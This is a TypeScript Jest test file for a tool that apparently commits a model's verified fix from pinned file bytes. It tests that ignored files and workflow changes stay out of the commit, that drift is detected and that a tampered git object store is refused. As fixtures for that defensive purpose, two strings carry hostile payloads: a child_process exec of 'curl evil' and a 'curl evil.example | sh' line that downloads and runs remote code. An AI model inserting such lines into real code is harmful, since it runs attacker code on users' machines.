import { afterEach, describe, expect, it } from '@jest/globals';
import { execFileSync } from 'node:child_process';
import { appendFileSync, copyFileSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { buildCommit } from '../../src/deliver/deliver.js';
import { driftedFiles, pinFiles, pinnedBytes, readNow } from '../../src/workspace/pin.js';
import { GIT_ENV, gitIn, makeRepo, writeFiles } from '../../testkit/repo.js';

// The fix commit holds exactly the files the model changed, with the bytes the verifying run saw.

let cleanups: (() => unknown)[] = [];
afterEach(() => {
  for (const c of cleanups.reverse()) c();
  cleanups = [];
});

function repo(files: Record<string, string>) {
  const r = makeRepo({ '.gitignore': '.env\nnode_modules/\n', ...files });
  cleanups.push(r.cleanup);
  return { dir: r.dir, head: gitIn(r.dir, 'rev-parse', 'HEAD') };
}
const committed = (dir: string, sha: string) =>
  gitIn(dir, 'diff-tree', '-r', '--no-renames', '--name-only', '-z', `${sha}^`, sha).split('\0').filter(Boolean).sort();

describe('buildCommit', () => {
  it('a created file named like a pathspec is one file; ignored files, node_modules and workflow changes stay out', async () => {
    const { dir, head } = repo({ 'src/a.js': 'a\n', '.github/workflows/ci.yml': 'on: push\n' });
    writeFiles(dir, {
      'src/a.js': 'fixed\n',
      ':(glob)**': 'x\n',
      '.env': 'DATABASE_URL=postgres://live\n',
      'node_modules/m/index.js': 'm\n',
      '.github/workflows/ci.yml': 'on: workflow_dispatch\n',
      'junk.txt': 'j\n',
    });
    const pins = await pinFiles(dir, readNow(dir, ['src/a.js', ':(glob)**']));
    const sha = await buildCommit(dir, head, pins, 'fix', GIT_ENV);
    expect(committed(dir, sha)).toEqual([':(glob)**', 'src/a.js']);
  });

  it('a bracketed path names itself, not a character class', async () => {
    const { dir, head } = repo({ 'app/[slug]/page.tsx': 'one\n', 'app/s/page.tsx': 'two\n' });
    writeFiles(dir, { 'app/[slug]/page.tsx': 'one fixed\n', 'app/s/page.tsx': 'changed by the tests\n' });
    const sha = await buildCommit(dir, head, await pinFiles(dir, readNow(dir, ['app/[slug]/page.tsx'])), 'fix', GIT_ENV);
    expect(committed(dir, sha)).toEqual(['app/[slug]/page.tsx']);
  });

  it('an edit of a git-ignored file is never committed', async () => {
    const { dir, head } = repo({ 'src/a.js': 'a\n' });
    writeFiles(dir, { '.env': 'STRIPE_KEY=sk_live_123\nDEBUG=1\n', 'src/a.js': 'fixed\n' });
    await expect(buildCommit(dir, head, await pinFiles(dir, readNow(dir, ['.env', 'src/a.js'])), 'fix', GIT_ENV)).rejects.toThrow(/git ignores \(\.env\)/);
  });

  it('commits the pinned bytes, and a later write shows as drift', async () => {
    const { dir, head } = repo({ 'src/a.js': 'a\n', 'src/gone.js': 'g\n' });
    writeFiles(dir, { 'src/a.js': 'fixed\n' });
    gitIn(dir, 'rm', '-q', 'src/gone.js');
    const pins = await pinFiles(dir, readNow(dir, ['src/a.js', 'src/gone.js']));
    appendFileSync(path.join(dir, 'src/a.js'), 'require("child_process").exec("curl evil")\n');
    expect(await driftedFiles(dir, pins)).toEqual(['src/a.js']);
    const sha = await buildCommit(dir, head, pins, 'fix', GIT_ENV);
    expect(gitIn(dir, 'show', `${sha}:src/a.js`)).toBe('fixed');
    expect(committed(dir, sha)).toEqual(['src/a.js', 'src/gone.js']);
  });

  it('drift is told from the blob ids git itself writes, in either object format, and ignores clean filters as the pin does', async () => {
    for (const format of ['sha1', 'sha256']) {
      const dir = mkdtempSync(path.join(os.tmpdir(), 'unbreak-pin-'));
      cleanups.push(() => rmSync(dir, { recursive: true, force: true }));
      gitIn(dir, 'init', '-q', `--object-format=${format}`);
      // A clean filter that would change what git stores: the pin and the drift check both take the bytes as they are.
      gitIn(dir, 'config', 'filter.up.clean', 'tr a-z A-Z');
      writeFileSync(path.join(dir, '.gitattributes'), '*.js filter=up\n');
      writeFiles(dir, { 'src/a.js': 'fixed\n', 'src/empty.js': '', 'src/bin.dat': '\u0000\u00ff\r\n' });
      const files = ['src/a.js', 'src/empty.js', 'src/bin.dat', 'src/absent.js'];
      const pins = await pinFiles(dir, readNow(dir, files));
      expect(pins.map((p) => p.blob?.length ?? 0)).toEqual([format === 'sha1' ? 40 : 64, format === 'sha1' ? 40 : 64, format === 'sha1' ? 40 : 64, 0]);
      for (const p of pins) if (p.blob) expect(gitIn(dir, 'hash-object', '--no-filters', '--', p.path)).toBe(p.blob);
      expect(await driftedFiles(dir, pins)).toEqual([]);
      writeFiles(dir, { 'src/empty.js': 'x', 'src/absent.js': 'now here\n' });
      expect(await driftedFiles(dir, pins)).toEqual(['src/empty.js', 'src/absent.js']);
    }
  });

  it('bytes read back for a pin are hashed here: an object store that answers other bytes for the pinned id is refused', async () => {
    const { dir } = repo({ 'src/a.js': 'a\n' });
    writeFiles(dir, { 'src/a.js': 'the verified fix\n' });
    const [pin] = await pinFiles(dir, readNow(dir, ['src/a.js']));
    expect(await pinnedBytes(dir, { ...pin!, blob: pin!.blob! })).toEqual(Buffer.from('the verified fix\n'));
    // What a git that test code replaced could do: answer the pinned id with other bytes. Here the loose
    // object of the pinned id is swapped for another blob's, and the real git serves it without a check.
    const other = execFileSync('git', ['hash-object', '-w', '--stdin'], {
      cwd: dir,
      input: 'require("child_process").exec("curl evil.example | sh");\n',
      encoding: 'utf8',
    }).trim();
    const loose = (id: string) => path.join(dir, '.git/objects', id.slice(0, 2), id.slice(2));
    rmSync(loose(pin!.blob!), { force: true });
    copyFileSync(loose(other), loose(pin!.blob!));
    expect(gitIn(dir, 'cat-file', 'blob', pin!.blob!)).toContain('evil.example');
    await expect(pinnedBytes(dir, { ...pin!, blob: pin!.blob! })).rejects.toThrow(/whose bytes hash to .*nothing is delivered/);
  });
});
